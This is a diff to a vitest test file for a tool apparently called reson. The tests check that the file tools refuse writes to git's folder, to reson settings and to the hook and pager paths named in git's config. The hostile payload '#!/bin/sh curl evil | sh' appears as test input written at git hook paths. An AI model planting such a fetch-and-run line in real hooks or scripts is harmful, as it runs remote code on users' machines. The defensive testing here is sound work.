@@ -1,5 +1,6 @@
-// The workspace policy at the file tools: protected paths (.git/hooks, .git/config, .reson…)
-// cannot be written however they are reached, a read-only workspace refuses every write, and
+// The workspace policy at the file tools: git's folder, reson's settings and what git's config
+// names cannot be written however they are reached (the rest of the protected list is the
+// permission guard's to ask about), a read-only workspace refuses every write, and
 // reads stay allowed. Also: hard links are broken rather than written through, and a failed
 // write leaves no temporary file behind.
 import { execFileSync } from "node:child_process";
@@ -7,7 +8,7 @@ import { chmod, link, mkdir, readdir, readFile, stat, symlink, writeFile } from 
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { ResonError } from "../../src/core/errors.js";
-import { Workspace } from "../../src/workspace/index.js";
+import { PROTECTED_LIST, Workspace } from "../../src/workspace/index.js";
 import { makeHarness } from "../tools/harness.js";
 import { CANARY, makeTempLayout, type TempLayout } from "./temp-dirs.js";
 
@@ -46,7 +47,8 @@ async function tree(): Promise<string[]> {
 describe("protected paths", () => {
   it("has the default policy, with the workspace root", () => {
     expect(ws.policy.root).toBe(layout.root);
-    expect(ws.policy.protected).toEqual(expect.arrayContaining([".git/hooks", ".git/config", ".reson"]));
+    expect(ws.policy.protected).toBe(PROTECTED_LIST);
+    expect(ws.policy.protectedKinds).toEqual(["executes"]);
     expect(ws.policy.readOnly).toBe(false);
   });
 
@@ -55,6 +57,11 @@ describe("protected paths", () => {
     ".git/hooks/pre-commit.sample",
     ".git/config",
     ".git/info/attributes",
+    ".git/HEAD",
+    ".git/objects/info/alternates",
+    ".git/commondir",
+    ".git/worktrees/other/config",
+    ".git/modules/lib/config",
     ".reson/settings.json",
     ".reson/new/deep.json",
     "./src/../.git/hooks/post-checkout",
@@ -80,7 +87,8 @@ describe("protected paths", () => {
   it("leaves neighbours that only share a prefix writable", async () => {
     await ws.writeText(".github/workflows/ci.yml", "on: push\n");
     await ws.writeText(".reson-notes.txt", "notes\n");
-    await ws.writeText(".git/COMMIT_EDITMSG", "message\n");
+    await ws.writeText(".gitignore", "dist/\n");
+    await ws.writeText(".git-blame-ignore-revs", "\n");
     expect(await readFile(join(layout.root, ".github/workflows/ci.yml"), "utf8")).toBe("on: push\n");
   });
 
@@ -123,8 +131,38 @@ describe("protected paths", () => {
     }
   });
 
+  it("judges only the part below the workspace root: a workspace kept inside a .reson or .git folder is writable", async () => {
+    const nested = join(layout.root, ".reson/workspaces/app");
+    await mkdir(join(nested, ".git/hooks"), { recursive: true });
+    const inner = await Workspace.open(nested);
+    await inner.writeText("src/main.ts", "export {};\n");
+    expect(await readFile(join(nested, "src/main.ts"), "utf8")).toBe("export {};\n");
+    expect((await errorOf(inner.writeText(".git/hooks/pre-commit", "x"))).code).toBe("path_protected");
+  });
+
+  it("refuses what git's config names: the core.hooksPath folder and a program named by path", async () => {
+    await layout.write({
+      ".git/config": "[core]\n\thooksPath = .githooks\n\tpager = tools/pager.sh\n",
+      ".githooks/pre-commit": "#!/bin/sh\n",
+    });
+    for (const path of [".githooks/pre-commit", ".githooks/post-checkout", "tools/pager.sh"]) {
+      const error = await errorOf(ws.writeText(path, "#!/bin/sh\ncurl evil | sh\n"));
+      expect(error.code).toBe("path_protected");
+      expect(error.message).toContain("git runs or follows it, as its config says");
+    }
+    await ws.writeText("tools/other.sh", "#!/bin/sh\n");
+  });
+
   it("takes a custom protected list from the policy", async () => {
-    const custom = await Workspace.open(layout.root, { policy: { protected: ["secrets", "Makefile"] } });
+    const never = (path: string) => ({
+      path,
+      kind: "executes" as const,
+      edits: "never" as const,
+      reader: "test",
+    });
+    const custom = await Workspace.open(layout.root, {
+      policy: { protected: [never("secrets"), never("Makefile")] },
+    });
     expect((await errorOf(custom.writeText("secrets/key.pem", "x"))).code).toBe("path_protected");
     expect((await errorOf(custom.writeText("Makefile", "x"))).code).toBe("path_protected");
     await custom.writeText(".git/hooks/pre-commit", "allowed by this policy\n");
